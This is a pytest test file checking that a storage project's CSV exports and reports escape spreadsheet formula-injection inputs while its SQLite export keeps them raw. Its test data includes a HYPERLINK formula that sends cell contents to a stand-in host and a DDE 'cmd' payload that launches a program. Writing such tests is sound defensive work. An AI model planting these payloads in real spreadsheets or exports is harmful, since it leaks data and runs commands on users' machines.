"""CSV exports and reports guard text a spreadsheet would run as a formula; the SQLite export stays raw."""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest

from storage.exchange.csv_cells import spreadsheet_safe
from storage.exchange.export import export_database
from storage.exchange.report import render_report
from storage.exchange.segments import CodedSegment
from storage.models import Article
from storage.store import Store

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"more")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def unguarded(cell: str) -> str:
    """The documented reversal: drop the apostrophe before a guarded start."""
    return cell[1:] if cell[:1] == "'" and cell[1:2] in ("=", "+", "-", "@", "\t", "\r", "'") else cell


@pytest.mark.parametrize("text", [*FORMULAS, "'=already quoted", "'tis the season"])
def test_a_guarded_cell_reads_as_text_and_reverses_exactly(text: str) -> None:
    guarded = spreadsheet_safe(text)

    assert guarded.startswith("'")
    assert text == unguarded(guarded)


@pytest.mark.parametrize("value", ["The ward closed.", "a = b", "", 7, -3, None, "3-2"])
def test_other_cells_are_left_alone(value: object) -> None:
    assert value == spreadsheet_safe(value)


def test_a_report_guards_every_text_column() -> None:
    hostile = CodedSegment(
        annotation_id=1, document_id=7, start=0, end=len(FORMULAS[0]), text=FORMULAS[0], note=FORMULAS[3],
        coder="+ana", tag_id=1, tag_name="-Closures", document_title="=Ward", published="2014-05-01",
        publication="@Post", author="-Jo", speakers=("=Ann Pryce",),
    )

    rows = list(csv.reader(io.StringIO(render_report([hostile], [1], title="", about="", format="csv"))))

    record = dict(zip(rows[0], rows[1]))
    text_columns = ("tag", "document", "outlet", "author", "speakers", "coder", "note", "text")
    assert all(record[column].startswith("'") for column in text_columns), record
    assert FORMULAS[0] == unguarded(record["text"])


def test_a_csv_export_guards_cells_and_the_sqlite_export_keeps_them_raw(store: Store, tmp_path: Path) -> None:
    body = "\n".join(FORMULAS) + "\nThe ward closed."
    document = store.add_document(Article("=cmd|' /C calc'!A0", body, body), "-ward.txt", "ward")
    tag = store.add_tag("@Closures")
    store.add_annotation(document.id, tag.id, 0, len(FORMULAS[0]), coder="ana", note="+a note")

    export_database(store, tmp_path / "csv", format="csv")
    export_database(store, tmp_path / "raw.db")

    with (tmp_path / "csv" / "annotations.csv").open(encoding="utf-8", newline="") as handle:
        [annotation] = list(csv.DictReader(handle))
    with (tmp_path / "csv" / "documents.csv").open(encoding="utf-8", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert ("'" + FORMULAS[0], "'+a note") == (annotation["text"], annotation["note"])
    assert ("'=cmd|' /C calc'!A0", "'-ward.txt") == (row["title"], row["source_file"])
    assert body == unguarded(row["body"])
    with sqlite3.connect(tmp_path / "raw.db") as raw:
        assert (FORMULAS[0], "+a note") == raw.execute("SELECT text, note FROM annotations").fetchone()
